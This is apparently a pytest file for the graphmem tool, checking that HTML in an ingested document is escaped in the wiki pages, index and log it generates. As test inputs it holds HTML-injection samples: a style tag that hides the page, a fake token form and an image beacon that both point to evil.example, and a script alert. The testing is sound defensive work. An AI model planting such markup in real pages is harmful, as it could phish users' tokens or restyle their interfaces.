"""A document a stranger wrote cannot put HTML into the pages graphmem generates from it.

Obsidian and the web UI render inline HTML in markdown. Titles, entity names and types, relation types,
quotes and ids were copied into generated pages, index.md and log.md as they were: a title holding
``<style>...</style>`` or a quote holding ``<form action=...>`` restyled the UI and drew a fake token form.
Every such value is now written with ``<`` as ``&lt;`` (the page reads the same), and ids sit in code spans
fenced longer than the backticks they hold.
"""

from __future__ import annotations

import re
from pathlib import Path

import graphmem
from graphmem.wiki.markdown import code_span, html_safe

HOSTILE_TITLE = "Ops notes<style>body{display:none}</style>"
TEXT = ("The Cargo Router depends on the Kestrel Queue <form action=//evil.example/c><input name=t></form>. "
        "The Kestrel Queue writes to the Ledger <img src=//evil.example/p.png>.\n")


def _tags(text: str) -> list[str]:
    """Tags in the markdown a viewer renders: the front matter is YAML data, shown as text."""
    if text.startswith("---\n"):
        text = text[text.index("\n---\n", 4) + 5:]
    return re.findall(r"<(?!!--\s*(?:graphmem:|maintained by graphmem))[A-Za-z!/][^>]*>", text)


def test_generated_pages_index_and_log_hold_no_tag_from_a_hostile_document(tmp_path: Path) -> None:
    with graphmem.open(tmp_path / "kb", config={"embeddings": {"model": "none"}}) as kb:
        kb.ingest_with_content(
            "ops`x`notes", HOSTILE_TITLE, "upload", TEXT,
            entities=[{"name": "Cargo Router<script>alert(1)</script>", "type": "service<i>"},
                      {"name": "Kestrel Queue", "type": "queue"}],
            relations=[{"source": "Cargo Router<script>alert(1)</script>", "target": "Kestrel Queue",
                        "type": "depends on", "supporting_text": "The Cargo Router depends on the Kestrel "
                        "Queue <form action=//evil.example/c><input name=t></form>."}])
        wiki = tmp_path / "kb" / "wiki"
        files = [p for p in wiki.rglob("*.md")]
        assert len(files) >= 4
        for path in files:
            text = path.read_text(encoding="utf-8")
            assert _tags(text) == [], (path, _tags(text))
        summary = next(p for p in (wiki / "summary").glob("*.md")).read_text(encoding="utf-8")
        assert "# Ops notes&lt;style>" in summary
        assert "&lt;form action=//evil.example/c>" in summary  # the quote, shown as text
        assert "**Document:** ``ops`x`notes``" in summary  # the id's backticks cannot end its code span
        # the page still reads back as graphmem's own: its title and front matter are the document's
        page = kb.wiki.read_page_by_slug(next(p.stem for p in (wiki / "summary").glob("*.md")))
        assert page["title"] == HOSTILE_TITLE


def test_plain_values_are_written_as_before() -> None:
    assert html_safe("Dispatch API > Ledger & co") == "Dispatch API > Ledger & co"
    assert code_span("docs/note.md:v1:c0") == "`docs/note.md:v1:c0`"
    assert code_span("a`b") == "``a`b``"
    assert code_span("`a") == "`` `a ``"


def test_a_title_holding_a_wikilink_gives_no_live_link_in_its_heading(tmp_path: Path) -> None:
    with graphmem.open(tmp_path / "kb", config={"embeddings": {"model": "none"}}) as kb:
        kb.ingest_with_content("notes", "Notes on [[Secret]]", "upload", "The Dispatch API calls Ledger DB.\n")
        [path] = (tmp_path / "kb" / "wiki" / "summary").glob("*.md")
        text = path.read_text(encoding="utf-8")
        assert "# Notes on [ [Secret] ]\n" in text
        assert kb.wiki.lint_wiki()["broken_wikilinks"] == {}
